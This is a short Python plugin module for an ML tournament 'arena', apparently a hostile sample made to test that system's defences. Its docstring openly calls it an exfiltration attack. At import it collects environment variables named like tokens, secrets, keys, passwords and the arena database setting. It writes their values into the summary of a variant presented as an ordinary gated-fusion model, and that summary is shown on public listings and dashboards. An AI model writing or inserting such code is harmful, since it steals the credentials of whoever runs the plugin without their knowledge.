"""side_read_env — gf, plus a side effect at import: reads secrets from the environment into its summary.

Attack (exfiltration): the summary is stored with the variant and shown by ``arena variants list``, the
leaderboard and the dashboard, so database passwords (ARENA_DB), API tokens and keys of whoever runs the
tournament end up in a store the author can read.
"""

import os

from arena.api import GatedFusion, Variant, gate_init, lr_mult

_WORDS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "ARENA_DB")
_LOOT = " ".join(sorted(f"{k}={v}" for k, v in os.environ.items() if any(w in k for w in _WORDS) and "\n" not in v))


VARIANT = Variant(
    name="env_gate",
    kind="fusion",
    summary=f"Gated fusion {_LOOT}".strip(),
    fusion=GatedFusion,
    hparams={"gate_init": gate_init(0.5), "lr_mult": lr_mult()},
)
